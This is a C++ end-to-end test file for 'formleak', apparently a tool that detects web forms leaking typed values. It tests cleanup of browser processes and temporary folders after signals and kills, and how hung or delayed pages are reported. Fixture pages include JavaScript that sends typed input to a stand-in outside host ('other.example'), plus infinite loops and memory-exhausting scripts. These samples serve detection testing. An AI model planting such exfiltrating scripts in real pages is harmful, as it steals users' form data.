// However a visit ends, in two seconds nothing of the browser runs any more, and no folder is left; what a
// killed run left behind the next one removes.
#include <doctest/doctest.h>

#include <sys/file.h>
#include <sys/stat.h>

#include <chrono>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <functional>
#include <set>
#include <thread>

#include "scanner/process/process_tree.h"
#include "tests/e2e/site.h"

using namespace formleak;
using namespace formleak::test;
namespace fs = std::filesystem;

namespace {

using Clock = std::chrono::steady_clock;

constexpr char kForm[] =
    "<form action='/tack' method='post'><label>E-post <input name='epost' type='email'></label>"
    "<button>Skicka</button></form>";

bool eventually(const std::function<bool()>& done, double limit_s) {
    const auto until = Clock::now() + std::chrono::duration<double>(limit_s);
    while (!done() && Clock::now() < until) std::this_thread::sleep_for(std::chrono::milliseconds(20));
    return done();
}

// Of the browser that this formleak started: by number, each with its command line.
std::set<std::pair<pid_t, std::string>> browser_of(pid_t formleak) {
    std::set<std::pair<pid_t, std::string>> out;
    for (const process::ProcessMemory& one : process::look_at_tree(formleak)) {
        const std::string line = process::command_line_of(one.pid);
        if (line.find("--type=") != std::string::npos ||
            line.find("--remote-debugging-pipe") != std::string::npos)
            out.insert({one.pid, line});
    }
    return out;
}

bool is_gone(const std::set<std::pair<pid_t, std::string>>& browser) {
    for (const auto& [pid, line] : browser)
        if (process::command_line_of(pid) == line) return false;
    return true;
}

std::set<std::string> folders() {
    std::set<std::string> out;
    for (const auto& entry : fs::directory_iterator(fs::temp_directory_path()))
        if (entry.path().filename().string().starts_with("formleak-browser-"))
            out.insert(entry.path().string());
    return out;
}

struct Page {
    const char *name, *script;
};
constexpr Page kPages[] = {
    {"busy", "<script>setInterval(() => fetch('/puls?' + Math.random()), 40)</script>"},
    {"hung", "<script>fetch('/puls'); fetch('/puls?2'); setTimeout(() => { for (;;); })</script>"},
    {"windows", "<script>fetch('/puls'); for (let i = 0; i < 300; i++) open('/puls?' + i)</script>"}};

// A visit in its middle: the page runs, and so does a page's process.
struct Visited {
    Site site;
    TempFolder state;
    std::unique_ptr<Running> formleak;
    std::set<std::pair<pid_t, std::string>> browser;

    explicit Visited(const Page& page, const std::vector<std::string>& more = {}) {
        site.page("/", std::string(kForm) + page.script);
        std::vector<std::string> arguments = {FORMLEAK_PROGRAM, "verify", site.url("/"), "--format", "json"};
        arguments.insert(arguments.end(), more.begin(), more.end());
        formleak =
            std::make_unique<Running>(arguments, std::vector<std::string>{"XDG_STATE_HOME=" + state.path()});
        REQUIRE(eventually([&] { return site.requests().size() > 3; }, 30));
        browser = browser_of(formleak->pid());
        REQUIRE(browser.size() >= 3);  // itself, a zygote, a page
    }
};

}  // namespace

TEST_CASE("visit ends: SIGINT, SIGTERM and SIGHUP write the report, and within two seconds nothing is left") {
    const auto before = folders();
    for (const Page& page : kPages)
        for (const int number : {SIGINT, SIGTERM, SIGHUP}) {
            if (number == SIGHUP && &page != kPages) continue;  // it takes the same way
            CAPTURE(std::string(page.name));
            CAPTURE(number);
            Visited visited(page);
            const auto start = Clock::now();
            visited.formleak->signal(number);
            CHECK(eventually([&] { return is_gone(visited.browser); }, 2));
            const Outcome outcome = visited.formleak->wait(20);
            CHECK(std::chrono::duration<double>(Clock::now() - start).count() < 3);
            CHECK(outcome.exit_code == 3);
            const auto report = parse_json(outcome.out);
            REQUIRE_MESSAGE(report.ok(), outcome.err);
            CHECK(outcome.out.find("interrupted") != std::string::npos);
            CHECK(folders() == before);
        }
}

TEST_CASE("visit ends: after kill -9 nothing runs; a folder that it left goes at the next start") {
    const auto before = folders();
    for (const bool contained : {true, false}) {
        CAPTURE(contained);
        const std::vector<std::string> how =
            contained ? std::vector<std::string>{} : std::vector<std::string>{"--uncontained"};
        Visited visited(kPages[1], how);
        visited.formleak->signal(SIGKILL);
        CHECK(eventually([&] { return is_gone(visited.browser); }, 2));
        CHECK(visited.formleak->wait(20).exit_code == 128 + SIGKILL);
        if (contained) CHECK(folders() == before);
        // Any start will do that starts a browser, or ends a run.
        CHECK(run_formleak({"vendors"}).exit_code == 0);
        CHECK(eventually([&] { return folders() == before; }, 2));
    }
}

TEST_CASE(
    "visit ends: a second SIGINT, and a normal end, leave no folder where the browser is not contained") {
    const auto before = folders();
    {
        Visited visited(kPages[0], {"--uncontained"});
        CHECK(folders() != before);
        visited.formleak->signal(SIGINT);
        visited.formleak->signal(SIGINT);
        visited.formleak->wait(20);
        CHECK(is_gone(visited.browser));
        CHECK(folders() == before);
    }
    Site site;
    site.page("/", kForm);
    CHECK(run_formleak({"verify", site.url("/"), "--uncontained"}).exit_code == 0);
    CHECK(folders() == before);
}

TEST_CASE("visit ends: a folder whose run goes on stays, and so does what has no lock file") {
    const std::string used = (fs::temp_directory_path() / "formleak-browser-inuse0").string(),
                      other = (fs::temp_directory_path() / "formleak-browser-nolock").string();
    fs::create_directory(used);
    fs::create_directory(other);
    std::ofstream(used + ".lock").close();
    const int lock = ::open((used + ".lock").c_str(), O_RDWR | O_CLOEXEC);
    REQUIRE(::flock(lock, LOCK_EX | LOCK_NB) == 0);
    CHECK(run_formleak({"vendors"}).exit_code == 0);
    CHECK(fs::exists(used));
    CHECK(fs::exists(other));
    ::close(lock);
    CHECK(run_formleak({"vendors"}).exit_code == 0);
    CHECK_FALSE(fs::exists(used));
    CHECK_FALSE(fs::exists(used + ".lock"));
    CHECK(fs::exists(other));
    fs::remove(other);
}

TEST_CASE("visit ends: a page that is ended because of its memory costs itself; the others have a browser") {
    Site site;
    site.page("/a", kForm);
    site.page("/grow", std::string(kForm) +
                           "<script>const a = []; for (;;) a.push(new Uint8Array(1e8).fill(1))</script>");
    site.page("/b", kForm);
    TempFolder state;
    Running running({FORMLEAK_PROGRAM, "verify", site.url("/a"), site.url("/grow"), site.url("/b"),
                     "--format", "json", "--jobs", "1"},
                    {"XDG_STATE_HOME=" + state.path()});
    const Outcome outcome = running.wait(60);
    CHECK(outcome.exit_code == 3);
    const auto report = parse_json(outcome.out);
    REQUIRE_MESSAGE(report.ok(), outcome.err);
    REQUIRE((*report)["visits"].items().size() == 3);
    for (const Json& visit : (*report)["visits"].items()) {
        CAPTURE(visit["page"].as_text());
        const bool is_bad = visit["page"].as_text() == site.url("/grow");
        CHECK(visit["complete"].as_bool() != is_bad);
        if (!is_bad) CHECK(visit["fields"].as_integer() == 1);
    }
}

TEST_CASE("visit ends: a page whose form is gone, or goes when it is touched, is not complete") {
    for (const char* script :
         {"document.querySelector('form').remove()",
          "document.querySelector('input').onfocus = () => document.querySelector('form').remove()",
          "document.querySelector('input').onkeydown = () => document.querySelector('form').remove()",
          "setTimeout(() => { document.open(); document.write('<p>En sida.</p>'); document.close(); })"}) {
        CAPTURE(std::string(script));
        Site site;
        site.page("/", std::string(kForm) + "<script>" + script + "</script>");
        const Outcome outcome = run_formleak({"verify", site.url("/"), "--format", "json"});
        CHECK(outcome.exit_code == 3);
        const auto report = parse_json(outcome.out);
        REQUIRE_MESSAGE(report.ok(), outcome.err);
        CHECK_FALSE((*report)["visits"].items()[0]["complete"].as_bool());
    }
}

TEST_CASE("visit ends: a handler that hangs when a field is entered, or left with a value, is said") {
    for (const char* script :
         {"document.querySelector('input').onfocus = () => { for (;;); }",
          "document.querySelector('input').onblur = e => { if (e.target.value) for (;;); }"}) {
        CAPTURE(std::string(script));
        Site site;
        site.page("/", std::string(kForm) + "<script>" + script + "</script>");
        const Outcome outcome = run_formleak({"verify", site.url("/"), "--format", "json"});
        CHECK(outcome.exit_code == 3);
        CHECK(outcome.out.find("the page did not answer for 10 s") != std::string::npos);
    }
}

TEST_CASE("visit ends: a value sent later is waited for; a timer beyond the visit is said") {
    const auto visit = [](const std::string& timer) {
        Site site;
        site.page("/", std::string(kForm) +
                           "<script>document.querySelector('input').addEventListener('change', e => {"
                           "const send = () => fetch('https://other.example/' + e.target.value); " +
                           timer + " })</script>");
        const Outcome outcome = run_formleak({"verify", site.url("/"), "--format", "json"});
        const auto report = parse_json(outcome.out);
        REQUIRE_MESSAGE(report.ok(), outcome.err);
        return *report;
    };
    for (const char* timer : {"setTimeout(send, 3000)", "setTimeout(send, 6000)", "setInterval(send, 4000)",
                              "setTimeout(() => setTimeout(send, 2000), 2000)"}) {
        CAPTURE(std::string(timer));
        const Json report = visit(timer);
        CHECK(report["visits"].items()[0]["complete"].as_bool());
        CHECK(report["leaks"].items().size() == 1);
    }
    const Json report = visit("setTimeout(send, 300000)");
    CHECK(report["leaks"].items().empty());
    CHECK(
        report["problems"].dump().find("1 timer was pending that the page set after something was typed, of "
                                       "300 s") != std::string::npos);
}

TEST_CASE("visit ends: a timer that the page sets back at each touch, typed or not, is no lack but told") {
    const auto visit = [](const std::string& script) {
        Site site;
        site.page("/", std::string(kForm) + "<script>" + script + "</script>");
        const auto report = parse_json(run_formleak({"verify", site.url("/"), "--format", "json"}).out);
        REQUIRE(report.ok());
        return *report;
    };
    const std::string idle =
        "let t; const again = () => { clearTimeout(t); t = setTimeout(() => { location = '/ut' }, 900000) "
        "}; ";
    const Json rests = visit(
        idle + "for (const n of ['mousemove', 'keydown', 'click']) addEventListener(n, again); again()");
    CHECK(rests["visits"].items()[0]["complete"].as_bool());
    CHECK(
        rests["worth_a_look"].dump().find("1 timer that the page sets also when nothing is typed, of 900 s, "
                                          "was not waited for") != std::string::npos);
    // One that typing alone sets back, and one like it but of another length.
    for (const std::string& script :
         {idle + "document.querySelector('input').addEventListener('input', again)",
          std::string(
              "setTimeout(() => fetch('/a'), 900000); document.querySelector('input').oninput = () => "
              "setTimeout(() => fetch('/a'), 800000)")}) {
        CAPTURE(script);
        const Json types = visit(script);
        CHECK_FALSE(types["visits"].items()[0]["complete"].as_bool());
        CHECK(types["problems"].dump().find("pending that the page set after something was typed") !=
              std::string::npos);
    }
}
